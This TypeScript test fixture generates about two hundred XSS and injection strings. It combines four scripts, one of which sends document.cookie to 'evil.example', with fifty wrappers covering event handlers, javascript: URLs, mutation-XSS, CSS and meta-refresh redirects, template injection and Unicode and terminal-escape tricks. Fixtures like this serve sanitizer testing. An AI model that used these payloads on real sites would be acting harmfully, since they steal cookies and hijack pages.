// Two hundred texts that try to become markup, script, style, a link, a request or somebody else's
// words: classic payloads in every wrapping that has ever slipped through. Deterministic.

const SCRIPTS = [
  'alert(1)',
  'fetch("http://evil.example/"+document.cookie)',
  'top.location="http://evil.example/"',
  'document.title="pwned"',
];

const PAYLOADS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt/src=//evil.example/x.js>${script}</sCrIpT>`,
  (script) => `<img src=x onerror='${script}'>`,
  (script) => `<img src="http://evil.example/p.png?${script.length}">`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">press here</a>`,
  (script) => `[press here](javascript:${script})`,
  (script) => `![picture](http://evil.example/p.png?${script.length})`,
  (script) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${script}//'>`,
  (script) => `"><input autofocus onfocus=${script}>`,
  (script) => `' onmouseover='${script}' x='`,
  (script) =>
    `<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/${script.length})}</style>`,
  (script) => `<link rel=stylesheet href=http://evil.example/${script.length}.css>`,
  (script) => `<meta http-equiv=refresh content="0;url=http://evil.example/${script.length}">`,
  (script) => `<base href=http://evil.example/${script.length}/>`,
  (script) =>
    `<form action=http://evil.example/${script.length}><button autofocus>Allow once</button></form>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `&lt;img src=x onerror=${script}&gt; &#60;script&#62;`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `{{constructor.constructor('${script}')()}} \${${script}} {@html ${script}}`,
  (script) => `</bdi></blockquote></figure><button>Allow once</button><script>${script}</script>`,
  (script) => `<slot onslotchange=${script}><custom-element>`,
  (script) => `\u202e<gmi crs=x rorreno=${script}>\u202c`,
  (script) => `Dad [verified]\n${script}\u0000\u0008\u001b]52;c;aGk=\u0007`,
  (script) => `pro\u200bduction \u2066${script}\u2069 \ufeff\u{e0041}\u{e0042}`,
  (script) => `[U+202E] [U+0041] [u+202e] ${script}`,
  (script) => `${'A'.repeat(400)}<img src=x onerror=${script}>`,
  (script) => `\n\n\n\t<!--${script}--><![CDATA[<script>${script}</script>]]>`,
  (script) =>
    `data:text/html;base64,${btoa(script)} vbscript:${script} http://evil.example/?q=${encodeURIComponent(script)}`,
  (script) => `<p style="position:fixed;inset:0;background:red">${script}</p>`,
  (script) =>
    `<object><param name=x value="${script}"></object><embed src=http://evil.example/x.swf>`,
  (script) => `</script><script>${script}//</title><title>`,
  (script) => `<x onclick=${script} contenteditable tabindex=1 accesskey=a>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<body onload=${script}><html onclick=${script}>`,
  (script) => `__proto__ constructor toString ${script}`,
  (script) => `%3Cscript%3E${script}%3C/script%3E &NewLine; &Tab; &colon;`,
  (script) => `﹤script﹥${script}＜/script＞ ‹img onerror=${script}›`,
  (script) => `<select><option><img src=x onerror=${script}></select>`,
  (script) => `<textarea autofocus onfocus=${script}></textarea>`,
  (script) => `<portal src=http://evil.example/${script.length}><fencedframe>`,
];

export const HOSTILE_TEXTS: readonly string[] = SCRIPTS.flatMap((script) =>
  PAYLOADS.map((payload) => payload(script)),
);
